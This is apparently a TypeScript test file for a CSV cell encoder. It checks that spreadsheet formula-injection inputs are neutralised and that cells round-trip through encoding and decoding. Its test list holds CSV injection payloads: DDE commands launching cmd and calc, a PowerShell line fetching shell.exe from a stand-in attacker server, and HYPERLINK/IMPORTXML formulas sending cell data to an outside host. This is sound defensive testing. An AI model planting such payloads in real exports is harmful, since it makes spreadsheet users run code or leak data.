import fc from "fast-check";
import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import { decodeCsvCell, encodeCsvCell } from "./encode-csv.ts";

// OWASP "CSV Injection" (= + - @ tab CR LF and full-width forms), and payloads of PayloadsAllTheThings "CSV Injection".
const hostile = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u200b=1",
  "\ufeff=1",
  "\uff1d1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(A1)",
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "+thespanishinquisition(cmd|' /C calc'!A",
  '=HYPERLINK("http://x.example?"&A1,"see")',
  '=IMPORTXML(CONCAT("http://x.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
  "'=1",
  "''=1",
  "' =1",
  "x;=1",
  "x\t=1",
  "x\n=1",
  'x",=1',
  '","=1',
  "a\u2028=1",
];

test.each(hostile)("leaves no cell that a spreadsheet would run: %j", (text) => {
  // Readers with other separators or without quotes: none may see a cell that starts a formula.
  const file = `id,input\na,${encodeCsvCell(text)}\n`;
  const cells = parse(file, { relax_column_count: true }).flat();

  expect(cells).toHaveLength(4);
  expect(cells.filter((cell) => /^[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell))).toEqual([]);
});

test.each(hostile)("gives %j back", (text) => {
  expect(decodeCsvCell(parse(encodeCsvCell(text))[0]?.[0] ?? "")).toBe(text);
});

test("gives every text back", () => {
  const mark = fc.constantFrom(
    "'",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    '"',
    ",",
    ";",
    " ",
    "\u200b",
    "\uff1d",
    "a",
  );
  const text = fc.oneof(
    fc.array(mark).map((marks) => marks.join("")),
    fc.string({ unit: "grapheme" }),
  );

  fc.assert(
    fc.property(text, text, (left, right) => {
      const file = `${encodeCsvCell(left)},${encodeCsvCell(right)}\n`;
      const [cells] = parse(`x,y\n${file}`, { from: 2, skip_empty_lines: false });
      expect(cells?.map(decodeCsvCell)).toEqual([left, right]);
    }),
    { numRuns: 2000 },
  );
});

test.each(["plain words", "30 days", "a.b:c/d", "Grüße", "it's", "x=1", "2026-03-31", "'quoted'"])(
  "leaves %j as it is",
  (text) => {
    expect(encodeCsvCell(text)).toBe(text);
  },
);
